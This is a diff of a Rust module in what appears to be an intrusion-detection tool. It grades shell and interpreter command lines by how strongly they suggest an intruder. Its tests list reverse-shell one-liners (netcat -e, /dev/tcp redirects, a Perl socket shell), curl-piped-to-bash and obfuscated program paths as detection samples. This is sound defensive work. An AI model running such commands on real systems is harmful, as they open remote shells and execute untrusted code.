@@ -5,7 +5,8 @@
 //! a text with nothing in it but what one types at a prompt.
 
 use super::{
-    names::{AROUND, SESSION, WRAPPERS},
+    launched::Launched,
+    names::{AROUND, LETS_IN, SESSION, WRAPPERS},
     program::{Kind, Program, Told, is_dropped, is_intrusion, is_reconnaissance, name},
     shell::Script,
 };
@@ -16,11 +17,26 @@ const MAX_DEPTH: u8 = 4;
 /// Most words behind a wrapper that may be the program that it runs.
 const MAX_WORDS: usize = 32;
 
+/// What a command line says of who wrote it.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Grade {
+    /// An application's: it runs a program.
+    Plain,
+    /// Anyone's: code, or what one types at a prompt.
+    Anyones,
+    /// An intruder's who looks round, or hides what he does.
+    Looks,
+    /// An intruder's who comes in or on, whatever program runs it.
+    Enters,
+}
+
+type Graded = (Grade, &'static str);
+
 /// What one command of a text says.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 enum Says {
-    /// Nobody but an intruder runs it, for this reason.
-    Intruder(&'static str),
+    /// So much by itself, for this reason.
+    Graded(Grade, &'static str),
     /// One types it at a prompt.
     Typed,
     /// Nothing: it stands around others.
@@ -30,53 +46,74 @@ enum Says {
 }
 
 /// Of a shell or an interpreter; nothing of another program.
-pub fn told(kind: Kind<'_>) -> Option<(Severity, &'static str)> {
-    (kind != Kind::Other).then(|| told_within(kind, 0))
+pub fn told(launched: &Launched<'_>) -> Option<(Severity, &'static str)> {
+    let kind = launched.program.kind;
+    let (grade, why) = (kind != Kind::Other).then(|| grade(kind, 0))?;
+    let high = match grade {
+        Grade::Plain => false,
+        Grade::Anyones => {
+            launched.is_near(grade) && launched.could_be_told(launched.program.text().map_or(0, str::len))
+        }
+        Grade::Looks => launched.is_near(grade),
+        Grade::Enters => true,
+    };
+    Some((if high { Severity::High } else { Severity::Medium }, why))
 }
 
-fn told_within(kind: Kind<'_>, depth: u8) -> (Severity, &'static str) {
+fn grade(kind: Kind<'_>, depth: u8) -> Graded {
     match kind {
-        _ if depth >= MAX_DEPTH => (Severity::High, "it is a shell in a shell in a shell"),
+        _ if depth >= MAX_DEPTH => (Grade::Looks, "it is a shell in a shell in a shell"),
         Kind::Shell(Told::Text(text)) => of_text(text, depth),
-        Kind::Interpreter(Told::Text(_)) => (Severity::High, "its code is an argument"),
+        Kind::Interpreter(Told::Text(code)) if lets_in(code) => {
+            (Grade::Enters, "its code is an argument, and is about connections or shells")
+        }
+        Kind::Interpreter(Told::Text(_)) => (Grade::Anyones, "its code is an argument"),
+        Kind::Shell(Told::Input) if depth > 0 => {
+            (Grade::Looks, "it is a shell that takes commands from another program")
+        }
         Kind::Shell(Told::Input) | Kind::Interpreter(Told::Input) => {
-            (Severity::High, "it takes commands from its standard input")
+            (Grade::Anyones, "it takes commands from its standard input")
         }
         Kind::Shell(Told::File(file)) | Kind::Interpreter(Told::File(file)) if is_dropped(file) => {
-            (Severity::High, "it runs a file that lies where no application has its own")
+            (Grade::Enters, "it runs a file that lies where no application has its own")
         }
-        Kind::Shell(Told::File(_)) | Kind::Interpreter(Told::File(_)) => (Severity::Medium, "it runs a file"),
-        Kind::Other => (Severity::Medium, "it runs a program"),
+        Kind::Shell(Told::File(_)) | Kind::Interpreter(Told::File(_)) => (Grade::Plain, "it runs a file"),
+        Kind::Other => (Grade::Plain, "it runs a program"),
     }
 }
 
-fn of_text(text: &str, depth: u8) -> (Severity, &'static str) {
+fn of_text(text: &str, depth: u8) -> Graded {
     let script = Script::of(text);
     if script.connects {
-        return (Severity::High, "it opens a network connection as if it were a file");
+        return (Grade::Enters, "it opens a network connection as if it were a file");
     }
     let says: Vec<_> = script.programs().map(|(program, args)| says(program, args, depth)).collect();
-    let intruder = says.iter().find_map(|says| match says {
-        Says::Intruder(why) => Some(*why),
+    let graded = says.iter().filter_map(|says| match says {
+        Says::Graded(grade, why) => Some((*grade, *why)),
         _ => None,
     });
-    match intruder {
-        Some(why) => (Severity::High, why),
-        None if says.contains(&Says::Application) => (Severity::Medium, "it runs a plain command"),
-        None if says.contains(&Says::Typed) => (Severity::High, "it runs what one types at a prompt"),
-        None if script.writes => (Severity::High, "it only writes a file"),
-        None => (Severity::Medium, "it runs a plain command"),
+    match graded.reduce(|worst, next| if next.0 > worst.0 { next } else { worst }) {
+        Some(graded) => graded,
+        None if says.contains(&Says::Application) => (Grade::Plain, "it runs a plain command"),
+        None if says.contains(&Says::Typed) => (Grade::Anyones, "it runs what one types at a prompt"),
+        None if script.writes => (Grade::Anyones, "it only writes a file"),
+        None => (Grade::Plain, "it runs a plain command"),
     }
+}
+
+/// Whether code is about what lets someone in: a connection that it opens, or a shell.
+fn lets_in(code: &str) -> bool {
+    LETS_IN.iter().any(|all| all.iter().all(|word| code.contains(word)))
 }
 
 fn says(program: &str, args: &[String], depth: u8) -> Says {
     let own = name(program);
-    if let Some(says) = intruder(program, args, depth) {
+    if let Some(says) = graded(program, args, depth) {
         return says;
     }
     let wraps = WRAPPERS.contains(&own);
     let behind = || (0..args.len().min(MAX_WORDS)).map(|at| (args[at].as_str(), &args[at + 1..]));
-    if wraps && let Some(says) = behind().find_map(|(program, args)| intruder(program, args, depth)) {
+    if wraps && let Some(says) = behind().find_map(|(program, args)| graded(program, args, depth)) {
         return says;
     }
     // Values of its options are taken for the program sometimes: that is one of the application's, then.
@@ -95,25 +132,25 @@ fn says(program: &str, args: &[String], depth: u8) -> Says {
     }
 }
 
-/// Whether it is an intruder's, whatever stands around it.
-fn intruder(program: &str, args: &[String], depth: u8) -> Option<Says> {
+/// What it says by itself, whatever stands around it.
+fn graded(program: &str, args: &[String], depth: u8) -> Option<Says> {
     let line = [&[program.to_owned()], args].concat();
     let kind = Program::told(program, &line).kind;
-    let why = if kind != Kind::Other {
-        let (severity, why) = told_within(kind, depth + 1);
-        (severity >= Severity::High).then_some(why)?
+    let (grade, why) = if kind != Kind::Other {
+        let (grade, why) = grade(kind, depth + 1);
+        (grade > Grade::Plain).then_some((grade, why))?
     } else if is_reconnaissance(program, args) {
-        "it asks who and where it is"
+        (Grade::Looks, "it asks who and where it is")
     } else if is_intrusion(program, args) {
-        "it runs what brings an intruder in"
+        (Grade::Enters, "it runs what brings an intruder in")
     } else if is_dropped(program) {
-        "it runs a file that lies where no application has its own"
+        (Grade::Enters, "it runs a file that lies where no application has its own")
     } else if is_hidden(program) {
-        "it hides the name of what it runs"
+        (Grade::Looks, "it hides the name of what it runs")
     } else {
         return None;
     };
-    Some(Says::Intruder(why))
+    Some(Says::Graded(grade, why))
 }
 
 /// Whether a program's name is something else until the shell has expanded it (POSIX.1-2017, XCU 2.6): `/b?n/id`,
@@ -129,9 +166,12 @@ fn is_hidden(program: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::*;
+    use super::{
+        super::launched::{Below, tests::scene},
+        *,
+    };
 
-    fn of(text: &str) -> Severity {
+    fn of(text: &str) -> Grade {
         of_text(text, 0).0
     }
 
@@ -166,7 +206,7 @@ mod tests {
             "sh -c 'convert a b'",
             "echo a | x",
         ] {
-            assert_eq!(of(text), Severity::Medium, "{text}");
+            assert_eq!(of(text), Grade::Plain, "{text}");
         }
     }
 
@@ -216,7 +256,52 @@ mod tests {
             "{cat,x}",
             "awk 'BEGIN{system(\"x\")}'",
         ] {
-            assert_eq!(of(text), Severity::High, "{text}");
+            assert!(of(text) > Grade::Plain, "{text}");
+        }
+    }
+
+    #[test]
+    fn how_much_it_says() {
+        let cases = [
+            ("ls -la", Grade::Anyones),
+            ("curl -s http://h/x", Grade::Anyones),
+            ("python3 -c 'print(1)' | head", Grade::Anyones),
+            ("id", Grade::Looks),
+            ("curl http://h/x | bash", Grade::Looks),
+            ("/b?n/cat x", Grade::Looks),
+            ("nc h 1 -e /bin/sh", Grade::Enters),
+            ("exec 5<>/dev/tcp/h/1; x", Grade::Enters),
+            ("id; /tmp/x", Grade::Enters),
+            ("perl -e 'use Socket;connect(S,x);exec(\"/bin/sh -i\")'", Grade::Enters),
+        ];
+        for (text, grade) in cases {
+            assert_eq!(of(text), grade, "{text}");
+        }
+    }
+
+    #[test]
+    fn who_told_it_decides() {
+        use Severity::{High, Medium};
+        let (near, room, other): (Below, _, _) = (Below::Child, Some, Below::Deeper { ordered: false });
+        let cases: &[(&[&str], Below, Option<usize>, Severity)] = &[
+            (&["sh", "-c", "ls -la /srv"], near, None, High),
+            (&["sh", "-c", "ls -la /srv"], near, room(4), Medium),
+            (&["sh", "-c", "ls -la /srv"], near, room(24), High),
+            (&["python3", "-c", "print(1)"], near, room(0), Medium),
+            (&["bash", "-s"], near, room(0), Medium),
+            (&["bash", "-s"], near, room(2), High),
+            (&["sh", "-c", "id"], near, room(0), High),
+            (&["sh", "-c", "id"], other, None, Medium),
+            (&["sh", "-c", "ls"], other, None, Medium),
+            (&["sh", "-c", "sh -i >& /dev/tcp/h/1"], other, None, High),
+            (&["sh", "-c", "convert a b | head"], near, None, Medium),
+        ];
+        for (args, below, room, severity) in cases {
+            let told = scene(args).ask(|launched| {
+                let launched = Launched { below: *below, room: *room, ..launched.clone() };
+                super::told(&launched).map(|(severity, _)| severity)
+            });
+            assert_eq!(told, Some(*severity), "{args:?}");
         }
     }
 
@@ -226,7 +311,7 @@ mod tests {
         for _ in 0..MAX_DEPTH {
             text = format!("sh -c {}", text.replace('\\', "\\\\").replace(' ', "\\ "));
         }
-        assert_eq!(of(&text), Severity::High);
-        assert_eq!(of(&"env ".repeat(1000)), Severity::Medium);
+        assert_eq!(of(&text), Grade::Looks);
+        assert_eq!(of(&"env ".repeat(1000)), Grade::Plain);
     }
 }
